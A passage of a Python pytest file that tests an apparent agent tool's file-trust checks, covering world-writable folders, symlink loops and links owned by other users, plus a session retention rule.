    path = tmp_path / "agent.md"
    path.symlink_to("mid/link.md")
    trust.check_writers(str(path), path.stat())
    (tmp_path / "mid").chmod(0o777)
    with pytest.raises(UsageError, match=f"anybody can write to a folder of the file {tmp_path}/mid .*agent.md"):
        trust.check_writers(str(path), path.stat())
    (tmp_path / "mid").chmod(0o755)
    (tmp_path / "mid" / "link.md").unlink()
    (tmp_path / "mid" / "link.md").symlink_to("../agent.md")
    with pytest.raises(UsageError, match="goes through too many links"):
        trust.check_writers(str(path), (tmp_path / "real.md").stat())


@requirement("trust:others-can-write")
def test_links_of_others_and_folders_of_nobody_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "real.md").touch()
    path = tmp_path / "agent.md"
    path.symlink_to("real.md")
    about = path.stat()

    def give(name: str, one: Path, user: int) -> None:
        before: Callable[..., os.stat_result] = getattr(os, name)
        theirs = os.stat_result((*before(one)[:4], user, *before(one)[5:]))

        def stat(asked: object, **more: Any) -> os.stat_result:
            return theirs if str(asked) == str(one) else before(asked, **more)

        patch.setattr(os, name, stat)

    with monkeypatch.context() as patch:
        give("lstat", path, os.geteuid() + 4321)
        with pytest.raises(UsageError, match=f"the link {path} to the file {path} belongs to another user"):
            trust.check_writers(str(path), about)
    patch = monkeypatch
    give("stat", tmp_path, 65534)
    uid_map = tmp_path / "uid_map"
    monkeypatch.setattr(owners, "_UID_MAP", str(uid_map))
    uid_map.write_text("         0       1000          1\n")
    trust.check_writers(str(path), about)
    uid_map.write_text("         0          0 4294967295\n")
    with pytest.raises(UsageError, match=f"a folder of the file {tmp_path} .* belongs to another user .id 65534"):
        trust.check_writers(str(path), about)


@requirement("trust:tighten-only")
def test_a_file_removes_nothing_of_a_session_that_is_there(holdall: Program, checkout: Checkout) -> None:
    handle = holdall.put(b"x" * 50_000, "--session", "work")
    name = "short.md"
    checkout.write(name, f"---\nmodel: scripted:{checkout.folder}/model.json\nretention: session\n---\nYou help.\n")
    ran = run(holdall, str(checkout.folder / name), "--session", "work")
    assert ran.code == 0, ran.err
    assert "retention holds for a new session only; work is there." in ran.err
    assert holdall("cat", handle, "--session", "work").out == b"x" * 50_000
